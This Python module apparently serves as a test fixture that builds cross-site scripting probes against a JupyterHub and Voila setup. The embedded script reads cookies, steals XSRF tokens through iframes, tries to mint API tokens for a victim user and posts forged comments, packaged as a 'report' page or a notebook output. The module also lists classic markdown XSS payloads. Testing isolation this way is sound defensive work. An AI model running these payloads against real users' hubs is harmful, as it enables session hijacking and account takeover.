"""What somebody writes who wants more than is theirs: a script that tries it all, put wherever people may write."""

from __future__ import annotations

from typing import Any

import nbformat

__all__ = ["SCRIPT", "TOLD", "in_markdown", "notebook", "page"]

#: What the script found out, as the page holds it.
TOLD = "() => window.told"

#: Tries whatever would be somebody else's rights. What it was told is kept in the page, and nothing is sent anywhere.
SCRIPT = """
(async () => {
  const told = {};
  const trial = async (name, how) => {
    try { told[name] = String(await how()).slice(0, 4000); } catch (no) { told[name] = "refused: " + no.name; }
  };
  const asked = async (path, how) => { const it = await fetch(path, how); return it.status + " " + (await it.text()); };
  const json = {method: "POST", headers: {"Content-Type": "application/json"}, credentials: "include"};
  await trial("cookies", () => document.cookie);
  await trial("storage", () => localStorage.length);
  await trial("user", () => asked("HUB/hub/api/user", {credentials: "include"}));
  await trial("home", () => asked("HUB/hub/home", {credentials: "include"}));
  await trial("dashboards", () => asked("HUB/services/dashboards/home", {credentials: "include"}));
  await trial("token", () => asked("HUB/hub/api/users/VICTIM/tokens", {...json, body: "{}"}));
  await trial("comment", () => asked("HUB/services/api/v1/comments",
    {...json, body: JSON.stringify({target: "instrument:AAPL.XNAS", body: "stolen"})}));
  const keyed = async (framed, path) => {
    const frame = document.createElement("iframe");
    const loaded = new Promise((done) => { frame.onload = done; setTimeout(done, 4000); });
    frame.src = framed;
    document.body.append(frame);
    await loaded;
    const found = /_xsrf=([^;]+)/.exec(frame.contentDocument.cookie);
    if (found === null) throw new DOMException("", "none");
    return asked(path, {...json, headers: {...json.headers, "X-XSRFToken": found[1]}, body: "{}"});
  };
  await trial("key", () => keyed("HUB/hub/logo", "HUB/hub/api/users/VICTIM/tokens"));
  await trial("kernel", () => keyed("SERVER/voila/static/voila.js", "SERVER/api/kernels"));
  for (const path of ["lab", "nothing-here", "api/contents", "api/kernels"]) {
    await trial("server " + path, () => asked("SERVER/" + path, {credentials: "include"}));
  }
  await trial("parent", () => {
    if (parent === window) throw new DOMException("", "none");
    return parent.document.title;
  });
  for (const path of ["HUB/hub/token", "HUB/services/dashboards/home", "SERVER/lab"]) {
    await trial("frame " + path, async () => {
      const frame = document.createElement("iframe");
      const loaded = new Promise((done) => { frame.onload = done; setTimeout(done, 4000); });
      frame.src = path;
      document.body.append(frame);
      await loaded;
      return frame.contentDocument.documentElement.outerHTML;
    });
    await trial("window " + path, async () => {
      const opened = window.open(path);
      for (let turn = 0; turn < 20; turn++) {
        await new Promise((done) => setTimeout(done, 200));
        const seen = opened.document.documentElement.outerHTML;
        if (seen.includes("_xsrf") || seen.includes("xsrf_token") || seen.length > 500) return seen;
      }
      return opened.closed ? "closed" : "nothing";
    });
  }
  window.told = told;
})();
"""


def script(hub: str, victim: str, server: str = "") -> str:
    """The script against a hub at that address, as whoever opens it; ``server`` is the victim's, if not below it."""
    at = server or f"{hub}/user/{victim}"
    return SCRIPT.replace("HUB", hub).replace("VICTIM", victim).replace("SERVER", at)


def page(hub: str, victim: str, server: str = "") -> str:
    """A page that runs it."""
    tried = script(hub, victim, server)
    return f"<!doctype html><title>A report</title><body><p>A report</p><script>{tried}</script></body>"


def notebook(hub: str, victim: str) -> Any:
    """A notebook with the script in an output that was saved, and a cell that shows it again when it is run."""
    inside = f"<p>A report</p><script>{script(hub, victim)}</script>"
    code = f"from IPython.display import HTML\nHTML({inside!r})"
    output = nbformat.v4.new_output(
        "execute_result", {"text/html": inside, "text/plain": "a report"}, execution_count=1
    )
    cell = nbformat.v4.new_code_cell(code, outputs=[output], execution_count=1)
    return nbformat.v4.new_notebook(cells=[cell], metadata={"kernelspec": {"name": "alphapulse", "display_name": "A"}})


def in_markdown() -> str:
    """Ways of old to run something out of a text that becomes a page."""
    return "\n\n".join(
        [
            "Planted.",
            "<script>window.ran = 'script'</script>",
            "<img src=x onerror=\"window.ran = 'image'\">",
            "<svg onload=\"window.ran = 'svg'\"></svg>",
            "[link](javascript:window.ran='link')",
            "<javascript:window.ran='autolink'>",
            '![i](x" onerror="window.ran=1)',
            "<iframe srcdoc=\"<script>parent.ran = 'frame'</script>\"></iframe>",
            "<a href='data:text/html,<script>1</script>'>data</a>",
            "<form action=/hub/logout><button autofocus onfocus=\"window.ran = 'focus'\">x</button></form>",
            "<style>* {display: none}</style>",
            "<math><mtext><table><mglyph><style><img src=x onerror=\"window.ran = 'mutation'\">",
        ]
    )
